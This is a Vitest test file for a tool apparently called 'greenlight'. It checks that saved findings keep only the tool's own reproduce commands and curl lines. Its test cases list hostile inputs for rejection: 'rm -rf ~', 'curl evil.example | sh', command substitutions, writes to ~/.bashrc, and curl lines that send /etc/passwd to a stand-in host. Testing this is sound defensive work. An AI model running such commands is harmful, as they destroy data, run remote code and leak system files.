import { expect, test } from 'vitest';
import type { Finding, Run } from '../../src/model/run.ts';
import { withOwnCommands } from '../../src/saved/saved-run.ts';
import { curl } from '../../src/standards/http/curl.ts';
import { sampleRun } from '../support/sample-run.ts';

const [first] = sampleRun.findings as [Finding];
const exchange = sampleRun.exchanges.find(({ id }) => first.exchanges.includes(id));
const url = exchange?.request?.url ?? '';
const base = sampleRun.target.clientBase;

const kept = (reproduce: Finding['reproduce']) => {
  const run: Run = { ...sampleRun, findings: [{ ...first, reproduce }] };
  return withOwnCommands(run).findings[0]?.reproduce;
};

const anew = `greenlight run -u ${base} --only ${first.scenario}`;

test.each([
  ['another command', 'rm -rf ~'],
  ['a second command', 'greenlight run; curl evil.example | sh'],
  ['a command in the background', 'greenlight run & curl evil.example'],
  ['a substitution', 'greenlight run -c "$(curl evil.example)"'],
  ['an old substitution', 'greenlight run -c `curl evil.example`'],
  ['a redirection', 'greenlight run > ~/.bashrc'],
  ['a second line', 'greenlight run\ncurl evil.example'],
  ['a carriage return', 'greenlight run\rcurl evil.example'],
  ['an unquoted variable', 'greenlight run -c $HOME/x'],
  ['a pattern', 'greenlight run -c ~/*'],
  ['an open quote', "greenlight run -c 'x"],
  ['escape sequences', 'greenlight run \u001b[2J'],
  ['another address', 'greenlight run -u https://evil.example'],
  ['another address by the long option', 'greenlight run --base-url https://evil.example'],
  ['an address with =', 'greenlight run --base-url=https://evil.example'],
  ['a token file of ours', `greenlight run -u ${base} --token-file /home/me/.token`],
  ['a client key of ours', `greenlight run --client-key k.pem --base-url ${base}`],
  ['another subcommand', 'greenlight serve --host 0.0.0.0'],
  ['another option', 'greenlight run --out /etc'],
  ['a similar program name', 'greenlight-x run'],
])('replaces a foreign command: %s', (_what, command) => {
  expect(kept({ command })).toEqual({ command: anew });
});

test.each([
  'greenlight run --only delivery-price/full-order',
  `greenlight run -u ${base} --seed 7 --only delivery-price/full-order`,
  "greenlight run -c 'my config.yaml' --insecure --only delivery-price/full-order",
  'greenlight demo --fault net-value-missing --only delivery-price/full-order',
  'greenlight run --token-file token.txt --only delivery-price/full-order',
  'greenlight validate transactions export.json',
])('keeps a command of ours: %s', (command) => {
  expect(kept({ command })).toEqual({ command });
});

test.each([
  ['a variable in quotes', 'greenlight run -c "$HOME/x"', "greenlight run -c '$HOME/x'"],
  ['other quotes', 'greenlight "run" -c "my config.yaml"', "greenlight run -c 'my config.yaml'"],
  ['continued lines', 'greenlight run \\\n  --seed 7', 'greenlight run --seed 7'],
])('rewrites a command from its words: %s', (_what, command, written) => {
  expect(kept({ command })).toEqual({ command: written });
});

test.each([
  ['another program', `wget ${url}`],
  ['another address', 'curl -isS https://evil.example'],
  ['two addresses', `curl -isS ${url} https://evil.example`],
  ['an output file', `curl -isS -o /tmp/x ${url}`],
  ['an options file', `curl -isS -K /tmp/x ${url}`],
  ['a sent file', `curl -isS ${url} --data @/etc/passwd`],
  ['a sent file with a name', `curl -isS ${url} --data-urlencode a@/etc/passwd`],
  ['a headers file', `curl -isS ${url} -H @/etc/passwd`],
  ['a proxy', `curl -isS -x evil.example ${url}`],
  ['a second command', `curl -isS ${url}; sh`],
  ['a substitution in a header', `curl -isS ${url} -H "x: $(id)"`],
  ['another method', `curl -isS -X DELETE ${url}`],
])('drops a foreign curl line: %s', (_what, line) => {
  expect(kept({ command: anew, curl: line })).toEqual({ command: anew });
});

test.each(['curl -isS', 'curl -isS --max-time 60'])(
  'keeps the curl line of its own request: %s',
  (start) => {
    const { request } = exchange ?? {};
    if (!request) throw new Error('the sample has no request');
    const body = JSON.stringify(request.body);
    const line = curl({ ...request, body, variables: ['GREENLIGHT_TOKEN'] });
    const own = line.replace('curl -isS', start);
    expect(kept({ command: anew, curl: own })).toEqual({ command: anew, curl: own });
  },
);

test('drops the curl line of a request that the run did not send', () => {
  const line = curl({ method: 'POST', url, headers: {}, body: '{"a":1}', variables: [] });
  expect(kept({ command: anew, curl: line })).toEqual({ command: anew });
});
